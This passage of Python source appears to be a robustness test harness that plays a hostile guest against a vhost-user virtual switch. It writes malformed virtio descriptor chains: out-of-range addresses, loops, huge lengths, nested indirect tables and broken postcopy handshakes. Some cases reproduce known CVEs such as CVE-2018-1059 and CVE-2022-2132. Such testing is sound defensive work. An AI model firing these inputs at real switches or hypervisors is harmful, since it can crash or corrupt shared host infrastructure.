@case("pc_buffer_fault", "--postcopy port: the rings written, the RX buffers missing: the data "
      "plane waits on the unserved userfaultfd when it delivers a frame")
def c_pc_buffer_fault(args):
    postcopy_session(args, touch_rings=True)


@case("pc_no_ack", "--postcopy port: no ack after the postcopy memory table's reply")
def c_pc_no_ack(args):
    postcopy_session(args, ack=False)


@case("pc_listen_first", "--postcopy port: POSTCOPY_LISTEN without POSTCOPY_ADVISE")
def c_pc_listen_first(args):
    postcopy_session(args, listen_first=True)


# --- hostile descriptor chains ------------------------------------------------------

def desc_case(name, doc, build, want=(1 << VIRTIO_F_INDIRECT_DESC), rx=False):
    """After a correct setup: build(s) writes hostile descriptors and returns
    the head(s) to publish on vring 1 (or vring 0 when rx: the switch then
    writes reflected frames into them)."""
    def run(args):
        s = Session(args)
        try:
            s.negotiate(want=want, reply_ack=False)
            s.map_memory()
            if not rx:
                s.post_rx(QSZ)
            s.setup_vring(0)
            s.setup_vring(1)
            s.sync()
            if not rx:
                s.traffic(8, 2)
                heads = build(s)
                for h in heads:
                    if isinstance(h, tuple):   # ("idx", value): raw avail idx
                        a = RING_OFF[1] + 0x1000
                        s.mm[a + 2:a + 4] = struct.pack("<H", h[1] & 0xFFFF)
                    else:
                        s.publish(1, h)
                s.kick_tx()
            else:
                heads = build(s)
                for h in heads:
                    if isinstance(h, tuple):
                        a = RING_OFF[0] + 0x1000
                        s.mm[a + 2:a + 4] = struct.pack("<H", h[1] & 0xFFFF)
                    else:
                        s.publish(0, h)
                # Make the switch write into them: frames to the reflector.
                for i in range(32):
                    s.tx(s.frame(i))
                s.kick_tx()
            time.sleep(0.2)   # let the switch walk them (the test checks the outcome)
            try:
                s.sync()
            except (PeerGone, socket.timeout, TimeoutError) as e:
                info("after chains: %s" % e)
            report_closed(args, s.c)
            hold(args)
        finally:
            s.close()
    CASES[name] = (run, doc)


def _d(s, i, addr, ln, flags=0, nxt=0, q=1):
    s.wdesc(q, i, addr, ln, flags, nxt)
    return i


def _ind(s, entries):
    """Write an indirect table at INDIRECT_OFF; returns its GPA."""
    for k, (addr, ln, flags, nxt) in enumerate(entries):
        o = INDIRECT_OFF + 16 * k
        s.mm[o:o + 16] = struct.pack("<QIHH", addr, ln, flags, nxt)
    return INDIRECT_OFF


TXB = TX_BUF_OFF
desc_case("desc_addr_outside", "TX desc address outside every region",
          lambda s: [_d(s, 100, 0x40000000000, 100)])
desc_case("desc_cross_region", "TX desc crossing the end of the region (CVE-2018-1059)",
          lambda s: [_d(s, 100, MEM_SIZE - 40, 4096)])
desc_case("desc_loop_self", "TX desc with NEXT pointing to itself",
          lambda s: [_d(s, 100, TXB, 100, VRING_DESC_F_NEXT, 100)])
desc_case("desc_cycle", "TX chain 100 -> 101 -> 100",
          lambda s: [_d(s, 100, TXB, 100, VRING_DESC_F_NEXT, 101),
                     _d(s, 101, TXB, 100, VRING_DESC_F_NEXT, 100)][:1])
desc_case("desc_len_huge", "TX desc length 0xffffffff",
          lambda s: [_d(s, 100, TXB, 0xFFFFFFFF)])
desc_case("desc_len_zero", "TX desc length 0 and 1",
          lambda s: [_d(s, 100, TXB, 0), _d(s, 101, TXB, 1)])
desc_case("desc_hdr_split", "virtio-net header split over tiny descriptors (CVE-2022-2132)",
          lambda s: [_d(s, 100, TXB, 2, VRING_DESC_F_NEXT, 101),
                     _d(s, 101, TXB + 2, 2, VRING_DESC_F_NEXT, 102),
                     _d(s, 102, TXB + 4, 1, 0, 0)][:1])
desc_case("desc_next_oob", "TX desc NEXT index 300 (ring size 256)",
          lambda s: [_d(s, 100, TXB, 100, VRING_DESC_F_NEXT, 300)])
desc_case("avail_head_oob", "avail ring entry 1000 (ring size 256)", lambda s: [1000, 0xFFFF])
desc_case("avail_idx_jump", "avail idx += 40000", lambda s: [("idx", s.tx_avail + 40000)])
desc_case("desc_write_on_tx", "TX desc marked WRITE (device-writable)",
          lambda s: [_d(s, 100, TXB, 100, VRING_DESC_F_WRITE)])
desc_case("indirect_outside", "indirect table address outside memory",
          lambda s: [_d(s, 100, 0x40000000000, 64, VRING_DESC_F_INDIRECT)])
desc_case("indirect_nested", "indirect table containing an INDIRECT descriptor",
          lambda s: [_d(s, 100, _ind(s, [(INDIRECT_OFF, 32, VRING_DESC_F_INDIRECT, 0),
                                         (TXB, 100, 0, 0)]), 32, VRING_DESC_F_INDIRECT)])
desc_case("indirect_len_odd", "indirect table length 17 (not a multiple of 16)",
          lambda s: [_d(s, 100, _ind(s, [(TXB, 100, 0, 0), (TXB, 100, 0, 0)]), 17,
                        VRING_DESC_F_INDIRECT)])
desc_case("indirect_len_huge", "indirect table length 0xfffffff0",
          lambda s: [_d(s, 100, _ind(s, [(TXB, 100, 0, 0)]), 0xFFFFFFF0, VRING_DESC_F_INDIRECT)])
desc_case("indirect_loop", "indirect table whose entry 0 NEXT-points to itself",
          lambda s: [_d(s, 100, _ind(s, [(TXB, 100, VRING_DESC_F_NEXT, 0)]), 16,
                        VRING_DESC_F_INDIRECT)])
desc_case("indirect_not_negotiated", "INDIRECT descriptor without VIRTIO_F_INDIRECT_DESC",
          lambda s: [_d(s, 100, _ind(s, [(TXB, 100, 0, 0)]), 16, VRING_DESC_F_INDIRECT)], want=0)
desc_case("rx_desc_outside", "RX buffers outside memory",
          lambda s: [_d(s, i, 0x40000000000 + i * 4096, 2048, VRING_DESC_F_WRITE, 0, 0)
                     for i in range(16)], rx=True)
desc_case("rx_desc_loop", "RX chain with NEXT pointing to itself",
          lambda s: [_d(s, 0, RX_BUF_OFF, 4, VRING_DESC_F_WRITE | VRING_DESC_F_NEXT, 0, 0)],
          rx=True)
desc_case("rx_desc_readonly", "RX buffers without the WRITE flag",
          lambda s: [_d(s, i, RX_BUF_OFF + i * BUF_SIZE, BUF_SIZE, 0, 0, 0) for i in range(16)],
          rx=True)
desc_case("rx_desc_len_huge", "RX buffer length 0xffffffff",
          lambda s: [_d(s, 0, RX_BUF_OFF, 0xFFFFFFFF, VRING_DESC_F_WRITE, 0, 0)], rx=True)
desc_case("rx_desc_tiny", "RX buffers of 4 bytes (smaller than the virtio-net header)",
          lambda s: [_d(s, i, RX_BUF_OFF + i * BUF_SIZE, 4, VRING_DESC_F_WRITE, 0, 0)
                     for i in range(16)], rx=True)
desc_case("rx_avail_jump", "RX avail idx = 40000 with 1 buffer posted",
          lambda s: [0, ("idx", 40000)], rx=True)


# --- main -------------------------------------------------------------------------------

def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--socket")
    ap.add_argument("--case")
    ap.add_argument("--list", action="store_true")
    ap.add_argument("--timeout", type=float, default=20.0,
                    help="upper bound for the case, hold included (s)")
    ap.add_argument("--io-timeout", type=float, default=3.0,
                    help="wait for one reply (s)")
    ap.add_argument("--settle", type=float, default=0.5,
                    help="how long to watch for the switch closing us (s)")
    ap.add_argument("--hold", action="store_true")
    ap.add_argument("--frames", type=int, default=64)
    ap.add_argument("--mac", default="52:54:00:00:ee:01")
    ap.add_argument("--peer-mac", default="52:54:00:00:0c:02")
    args = ap.parse_args()
    if args.list:
        for name, (_, doc) in CASES.items():
            out("%-28s %s" % (name, doc))
        return 0
    if not args.socket or not args.case:
        ap.error("--socket and --case are required (or --list)")
    if args.case not in CASES:
        ap.error("unknown case %r (see --list)" % args.case)
    fn = CASES[args.case][0]
    try:
        rc = fn(args)
    except PeerGone as e:
        info("peer gone: %s" % e)
        rc = 2 if args.case in ("baseline", "setup") else 0
    except (socket.timeout, TimeoutError) as e:
        info("timeout: %s" % e)
        rc = 3 if args.case in ("baseline", "setup") else 0
    except ConnectionRefusedError as e:
        info("connect: %s" % e)
        rc = 2 if args.case in ("baseline", "setup") else 0
    out("DONE")
    return rc or 0


if __name__ == "__main__":
    sys.exit(main())
